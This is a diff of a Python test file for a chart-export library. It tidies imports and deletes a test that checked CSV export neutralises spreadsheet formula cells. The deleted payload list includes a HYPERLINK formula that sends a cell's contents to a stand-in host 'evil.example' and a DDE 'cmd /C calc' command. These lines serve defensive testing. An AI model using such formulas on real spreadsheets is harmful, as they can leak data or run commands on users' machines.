@@ -1,48 +1,17 @@
 """Figure export to PNG and SVG through kaleido and the local Chromium."""
 
-import shutil
-
 import io
+import shutil
 
 import pandas as pd
 import plotly.graph_objects as go
 import pytest
 
 from negviz.charts.export import figure_bytes
-from negviz.text.csv_cells import csv_bytes
 
 needs_chromium = pytest.mark.skipif(
     shutil.which("chromium") is None, reason="kaleido needs a Chromium (make test installs it)"
 )
-
-PAYLOADS = [
-    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-]
-
-
-def test_csv_bytes_neutralises_formula_cells_and_keeps_numbers():
-    frame = pd.DataFrame(
-        {
-            "label": PAYLOADS,
-            "delta": [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, -7.5],
-            "count": [-1, 2, 3, 4, 5, 6, 7],
-            "plain": ["a", "b=c", "", "x-y", "'q", "ok", "z"],
-        }
-    )
-    text = csv_bytes(frame).decode("utf-8")
-    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
-    assert back["label"].tolist() == ["'" + p for p in PAYLOADS]
-    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in back["label"])
-    assert back["delta"].tolist() == [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, -7.5]  # still numbers, unquoted
-    assert back["count"].tolist() == [-1, 2, 3, 4, 5, 6, 7]
-    assert back["plain"].tolist() == ["a", "b=c", "", "x-y", "'q", "ok", "z"]
-    assert ",-0.5," in text and "'-0.5" not in text
 
 
 def test_annotation_csv_export_is_neutralised_and_reimports(tmp_path):
